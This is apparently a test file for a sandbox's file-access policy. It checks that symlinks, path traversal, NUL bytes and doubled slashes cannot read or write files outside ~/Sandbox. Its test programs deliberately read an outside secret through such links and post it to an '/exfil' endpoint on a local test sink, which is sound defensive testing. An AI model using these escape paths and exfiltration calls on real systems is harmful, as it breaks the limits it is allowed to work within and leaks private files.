// Paths and links: the policy lets the program read and write anywhere in ~/Sandbox without
// asking; symlinks inside the sandbox (a file, a directory, a dangling one) point outside it.
// No file outside the sandbox may be read (its contents never reach the run's output or a sink)
// or written.
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { program, readWriteAndPost, shown, SLOW, useWorld } from "./world.js";

const w = useWorld({
  policies: (world) => ({
    "attacks.toml": readWriteAndPost(world.sinks[0]!.origin, "~/Sandbox"),
  }),
});
const SECRET = "OUTSIDE-SECRET-9f3c";

beforeAll(() => {
  symlinkSync(join(w.outside, "secret.txt"), join(w.sandbox, "link-file"));
  symlinkSync(w.outside, join(w.sandbox, "link-dir"));
  symlinkSync(join(w.outside, "made-by-dangling.txt"), join(w.sandbox, "dangling"));
  mkdirSync(join(w.sandbox, "deep"));
  symlinkSync("../../private", join(w.sandbox, "deep", "up"));
});

const importsAll = `import { listDir, readFile, writeFile } from "trusted/fs";\nimport { post } from "trusted/http";`;

/** Every run's output together, for the failure message and the leak check. */
async function runEach(bodies: string[]): Promise<string> {
  let all = "";
  for (const body of bodies) {
    const r = await w.run(program(body, { imports: importsAll }));
    all += `--- exit ${r.code}\n${r.stdout}${r.stderr}`;
  }
  // Every program passed the analysis: the attempts are real, not type errors.
  if (/^\d+:\d+: error/m.test(all)) throw new Error(`a program was refused by the analysis:\n${all}`);
  return all;
}

describe("symlinks inside the sandbox that point outside", () => {
  it(
    "reads through a file link, a directory link and a relative link: the outside file's contents go nowhere",
    async () => {
      const sink = w.sinks[0]!;
      const reads = ["link-file", "link-dir/secret.txt", "deep/up/secret.txt", "link-dir/../private/secret.txt"].map(
        (p) => join(w.sandbox, p),
      );
      const said = await runEach(
        reads.map(
          (path) => `    const r = await readFile({ path: ${JSON.stringify(path)} });
    console.log(String(r.content));
    await post({ url: "${sink.origin}/exfil", body: String(r.content) });
    return;`,
        ),
      );
      expect(said.includes(SECRET), said).toBe(false);
      expect(shown(sink.received.filter((a) => a.body.includes(SECRET)))).toBe("(nothing)");
      // The control: a plain file in the sandbox is read and sent.
      const control = await runEach([
        `    const r = await readFile({ path: ${JSON.stringify(join(w.sandbox, "notes.txt"))} });\n    await post({ url: "${sink.origin}/exfil", body: String(r.content) });`,
      ]);
      expect(
        sink.received.some((a) => a.body.includes("inside the sandbox")),
        control,
      ).toBe(true);
    },
    SLOW,
  );

  it(
    "a directory link does not list the outside folder",
    async () => {
      const said = await runEach([
        `    const r = await listDir({ path: ${JSON.stringify(join(w.sandbox, "link-dir"))} });\n    console.log(JSON.stringify(r));`,
      ]);
      expect(said.includes("secret.txt"), said).toBe(false);
    },
    SLOW,
  );

  it(
    "writes through a file link, a directory link, a dangling link and a relative link: nothing outside changes",
    async () => {
      const targets = ["link-file", "link-dir/new.txt", "dangling", "deep/up/new2.txt"].map((p) => join(w.sandbox, p));
      const said = await runEach(
        targets.map(
          (path) =>
            `    try { await writeFile({ path: ${JSON.stringify(path)}, content: "WRITTEN-BY-AGENT" }); } catch {}`,
        ),
      );
      expect(readFileSync(join(w.outside, "secret.txt"), "utf8"), said).toBe(`${SECRET}\n`);
      expect(readdirSync(w.outside).sort(), said).toEqual(["secret.txt"]);
      // The control: a plain path in the sandbox is written.
      await runEach([
        `    await writeFile({ path: ${JSON.stringify(join(w.sandbox, "plain.txt"))}, content: "fine" });`,
      ]);
      expect(existsSync(join(w.sandbox, "plain.txt"))).toBe(true);
    },
    SLOW,
  );

  it(
    "paths with NUL, dot segments and doubled slashes: nothing outside the sandbox is written",
    async () => {
      const paths = [
        `${w.sandbox}/a\u0000/../../private/nul.txt`,
        `${w.sandbox}/../private/dots.txt`,
        `${w.sandbox}//..//private/slashes.txt`,
        `${w.sandbox}/./../private/dot.txt`,
      ];
      const said = await runEach(
        paths.map(
          (path) =>
            `    try { await writeFile({ path: ${JSON.stringify(path)}, content: "WRITTEN-BY-AGENT" }); } catch {}`,
        ),
      );
      expect(readdirSync(w.outside).sort(), said).toEqual(["secret.txt"]);
      expect(
        readdirSync(w.home).filter((n) => !["Sandbox", "private", ".countersign"].includes(n)),
        said,
      ).toEqual([]);
    },
    SLOW,
  );
});
